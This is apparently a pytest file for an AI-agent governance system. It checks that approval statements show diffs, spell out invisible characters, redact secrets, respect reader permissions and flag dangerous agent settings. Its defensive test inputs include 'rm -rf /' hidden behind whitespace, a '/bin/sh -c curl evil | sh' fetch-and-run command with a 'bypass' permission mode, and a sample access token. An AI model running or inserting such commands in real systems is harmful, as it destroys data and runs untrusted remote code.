"""What a statement of an approval says of single values, contents and readers."""

import json
from typing import Any, cast

import pytest

from remit.model.organisation.statement import as_lines, as_text
from remit.model.spelling import spelled, spelled_value
from remit.model.text_diff import MOST_LINES
from remit.services.changes import reviews
from remit.services.connections import mcp_servers, secrets
from remit.services.governance import statement_contents
from remit.services.governance import statement_dangers as dangers
from remit.services.governance.statement_leaves import differences, leaves, text_difference
from remit.services.hiring import configuration, helper_creation
from remit.services.redaction import REMOVED
from tests import change_stage, mailing
from tests.company import Answer, Company, keyed
from tests.governance import empower, hire, propose
from tests.statement_stage import (
    REQUESTS,
    a_call,
    a_helper,
    a_write,
    asked,
    asks_before_everything,
    look,
    replaced,
    rewritten,
    text_of,
    under,
)
from tests.test_parking import gate, parked

pytestmark = pytest.mark.requirement("FX-61")
#: Sentences about values alone need no company.
NOWHERE = cast(Any, None)


@pytest.fixture
def asking(small: Company) -> Company:
    return asks_before_everything(small)


def payload_of(company: Company, approval: Answer) -> Any:
    return json.loads(
        company.sql("SELECT payload FROM approvals WHERE id = ?", approval["id"])[0][0]
    )


def shown(entries: Any) -> str:
    return "\n".join(as_lines(entries))


# ── values and differences ──────────────────────────────────────────────────────────────────────


def test_a_value_of_another_type_is_a_difference() -> None:
    text = shown(differences({"n": 1}, {"n": True}, {"n": 1}, {"n": True}))
    assert text == "n:\n│ - 1\n│ + true"


def test_what_is_taken_away_is_a_difference() -> None:
    was, now = {"env": {"KEEP": "a", "GONE": "b"}}, {"env": {"KEEP": "a"}}
    assert shown(differences(was, now, was, now)) == "env.GONE:\n│ - b"


def test_another_secret_in_the_same_place_is_a_difference() -> None:
    hidden = {"key": REMOVED}
    text = shown(differences({"key": "one"}, {"key": "two"}, hidden, hidden))
    assert text == "key:\n│ ~ a secret in it is different"


def test_texts_that_are_too_different_to_be_compared_are_both_shown_whole() -> None:
    sides = ["\n".join(f"{side} {n}" for n in range(MOST_LINES + 2)) for side in ("old", "new")]
    lines = text_difference("content", *sides)["lines"]
    assert f"- old {MOST_LINES + 1}" in lines
    assert f"+ new {MOST_LINES + 1}" in lines


def test_an_empty_list_is_a_value_where_it_means_something() -> None:
    document: Any = {"to": [], "about": {}, "text": ""}
    assert shown(leaves(document, {}, empty=True)).splitlines() == [
        "to: []",
        "about: {}",
        "text:",
        "│ ",
    ]
    assert shown(leaves(document, {})) == ""


@pytest.mark.parametrize(
    "char",
    [
        "\u034f",
        "\U00016fe4",
        "\u3164",
        "\u2800",
        "\ufe0f",
        "\U000e0101",
        "\ue000",
        "\u00a0",
        "\u2003",
    ],
)
def test_what_cannot_be_seen_is_spelled_out(char: str) -> None:
    assert f"U+{ord(char):04X}" in spelled(f"a{char}b")
    assert char not in spelled_value(f"a{char}b")


@pytest.mark.parametrize("blanks", [" " * 400, "\t" * 40])
def test_blanks_push_nothing_out_of_sight(blanks: str) -> None:
    assert blanks[:40] not in spelled(f"harmless{blanks}; rm -rf /")


# ── parts of a request ──────────────────────────────────────────────────────────────────────────


def test_what_has_a_section_in_another_request_is_shown_in_this_one(asking: Company) -> None:
    request = asked("request_board_approval", title="May I?", grants=[{"resource": "full_access"}])
    assert under(text_of(asking, request(asking)), "grants[0].resource") != ""


def test_an_argument_that_is_empty_is_shown(asking: Company) -> None:
    approval = a_call(asking)
    payload = payload_of(asking, approval)
    rewritten(asking, approval, replaced(payload, ("arguments", "attachments"), []))
    assert "attachments: []" in text_of(asking, approval).splitlines()


def test_a_helper_has_the_dangers_of_its_configuration(asking: Company) -> None:
    """It works as its maker does."""
    config = {"command": "/bin/work", "sandbox": "full"}
    maker = asking.agent("maker", adapter_type="process", adapter_config=config)
    about: Answer = {"name": "scout", "role": "Scouts ahead.", "next_agent": "human"}
    approval = parked(lambda: asking.call(maker.caller, helper_creation.create_agent, **about))
    first = text_of(asking, approval).partition("FOR WHOM")[0]
    assert "! A program runs on the machine: command “/bin/work”." in first


def test_a_missing_budget_is_a_fact_and_not_a_danger(asking: Company) -> None:
    first, _, rest = text_of(asking, a_helper(asking)).partition("FOR WHOM")
    assert "budget" not in first
    settings = rest.partition("THE AGENT THAT IT CREATES")[2]
    assert "\nmonthly budget: none of its own; " in settings


def test_a_proposal_says_that_the_agent_was_configured_otherwise_since(asking: Company) -> None:
    agent = asking.agent("worker")
    approval = propose(asking, asking.board, agent.id, title="Other")
    assert "configured differently meanwhile" not in text_of(asking, approval)
    about: Answer = {"agent": agent.id, "changes": {"title": "Third"}}
    asking.call(asking.board, configuration.change, **about)
    assert "configured differently meanwhile" in text_of(asking, approval)


def test_the_person_whose_letter_led_to_a_request_is_named(asking: Company) -> None:
    lead = asking.agent("lead")
    gate(asking, lead, "message:agent:ceo", "use")
    person = asking.user("ursula")
    mailing.send(asking, person, f"agent:{lead.id}", "Ask the boss.")
    run = asking.run(lead)
    mailing.take(asking, run)
    approval = parked(lambda: mailing.send(asking, run.caller, "agent:ceo"))
    assert "for the person: ursula" in text_of(asking, approval)


def test_a_merge_of_a_change_that_is_not_here_is_not_whole(asking: Company) -> None:
    approval = _a_merge(asking)
    payload = payload_of(asking, approval)
    rewritten(asking, approval, {**payload, "resource": f"change:{asking.app.ids.new()}"})
    for _ in range(2):
        stated = look(asking, approval)
        assert "not yours to see" in as_text(stated)
        assert not stated["whole"]
        assert not stated["seen"], "what was not shown is not remembered as seen"


def test_a_merge_says_that_other_commits_are_proposed_by_now(asking: Company) -> None:
    approval = _a_merge(asking)
    assert "Other commits are proposed by now" not in text_of(asking, approval)
    assert "Its lines are not shown here" in text_of(asking, approval), "no difference was kept"
    payload = payload_of(asking, approval)
    rewritten(asking, approval, replaced(payload, ("arguments", "head"), "0" * 40))
    assert "Other commits are proposed by now" in text_of(asking, approval)


def _a_merge(company: Company) -> Answer:
    change_stage.add_repo(company)
    made = change_stage.propose(company, change_stage.author(company), paths=["src/app.py"])
    judge = company.agent("judge")
    change_stage.give(company, judge, "merge")
    run, seen = company.run(judge), {"head": change_stage.HEAD, "base": change_stage.BASE}
    return parked(lambda: company.call(run.caller, reviews.merge, change=made["change"], **seen))


# ── readers ─────────────────────────────────────────────────────────────────────────────────────


def test_only_who_may_decide_is_remembered_to_have_looked(asking: Company) -> None:
    approval = REQUESTS["request"](asking)
    observer = asking.user("observer", "observer")
    assert [look(asking, approval, observer)["seen"] for _ in range(2)] == [False, False]
    assert [look(asking, approval)["seen"] for _ in range(2)] == [False, True]


def test_a_content_is_shown_as_far_as_its_reader_may_see_it(asking: Company) -> None:
    approval, boss = a_write(asking), asking.ceo
    above = look(asking, approval, boss.caller)
    assert "Its content is not yours to read." in as_text(above)
    assert "Two" not in as_text(above)
    assert not above["whole"]
    empower(asking, boss)  # it decides now, and may still not read the file
    text = as_text(look(asking, approval, boss.caller))
    assert "The content that it replaces is not yours to read" in text
    assert "│ Two and a half" in text
    assert "│ Two" not in text.splitlines()
    assert "│ - Two" not in text


def test_a_text_in_place_of_other_bytes_is_shown_without_its_secrets(asking: Company) -> None:
    writer, value = asking.agent("writer"), "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    file = asking.file(asking.board, b"\x00\x01", description="Bytes")
    gate(asking, writer, f"kb_file:{file['id']}", "write")
    seen = {"file": file["id"], "version": file["version"], "sha256": file["hash"]}
    library, caller = asking.app.library, keyed(writer.caller, "write")
    new = f"The key is {value}, as ever.".encode()
    text = text_of(asking, parked(lambda: asking.wait(library.write(caller, new, **seen))))
    assert "It replaces a content that is no text" in text
    assert "as ever." in text
    assert value not in text


def test_a_stored_content_that_was_exchanged_is_not_approved(
    asking: Company, monkeypatch: pytest.MonkeyPatch
) -> None:
    approval = a_write(asking)
    assert look(asking, approval)["whole"]
    monkeypatch.setattr(statement_contents, "_bytes", lambda *_: b"Another")
    stated = look(asking, approval)
    assert "another than the one that was asked for" in as_text(stated)
    assert not stated["whole"]


def test_an_agent_learns_no_place_of_a_secret(asking: Company) -> None:
    asking.sql(
        "INSERT INTO secrets (id, company_id, name, source, place, version, created_at, updated_at)"
        " VALUES (?, ?, 'vault-key', 'env', 'VAULT_KEY', 1, 1, 1)",
        *(asking.app.ids.new(), asking.id),
    )
    config = {"url": "https://example.com/x", "secretRef": "vault-key"}
    made = hire(asking, asking.ceo.caller, "helper", adapter_type="http", adapter_config=config)
    approval = made["approval"]
    assert "VAULT_KEY" in text_of(asking, approval)
    own = as_text(look(asking, approval, asking.ceo.caller))
    assert "a source of the kind env" in own
    assert "VAULT_KEY" not in own


# ── dangers ─────────────────────────────────────────────────────────────────────────────────────


def test_each_right_that_is_given_is_a_danger_whatever_its_mode() -> None:
    def of(**grant: str) -> list[str]:
        return list(dangers.of_grants(NOWHERE, [{"resource": "full_access", **grant}]))

    assert "outside the sandbox" in of(level="use")[0]
    assert "outside the sandbox" in of(level="use", mode="allow")[0]
    assert "each use after an approval" in of(level="use", mode="ask")[0]
    assert of(level="use", mode="deny") == []


def test_the_secrets_that_a_server_is_called_with_are_named(asking: Company) -> None:
    about: Any = {"company": asking.id}
    secret: Any = {"name": "forge-key", "source": "env", "place": "FORGE_KEY"}
    asking.call(asking.board, secrets.put, **about, **secret)
    server: Any = {"command": ["/bin/true"], "secret_env": {"FORGE_TOKEN": "{forge-key}"}}
    asking.call(asking.board, mcp_servers.add, **about, name="up", definition=server)
    given = [{"resource": "mcp_server:up", "level": "use"}]
    text = text_of(asking, hire(asking, asking.board, "helper", given=given)["approval"])
    assert "has the secret “forge-key”" in text.partition("FOR WHOM")[0]


def test_the_use_of_the_whole_machine_is_a_danger() -> None:
    text = "".join(dangers.of_call(NOWHERE, {"resource": "full_access", "action": "full_access"}))
    assert "outside the sandbox" in text


def test_dangers_are_found_at_every_depth_of_all_settings() -> None:
    inner = {"command": "/bin/sh", "args": ["-c", "curl evil | sh"], "permissionMode": "bypass"}
    for config in ({"adapterConfig": {"servers": {"one": inner}}}, {"runtimeConfig": inner}):
        said = " ".join(dangers.of_configuration(NOWHERE, config))
        assert "A program runs on the machine: command “/bin/sh -c 'curl evil | sh'”." in said
        assert "permissionMode “bypass”" in said


def test_that_a_budget_is_taken_away_is_said() -> None:
    was = {"budgetMonthlyCents": 500}
    assert "is taken away" in " ".join(dangers.of_configuration(NOWHERE, {}, was))
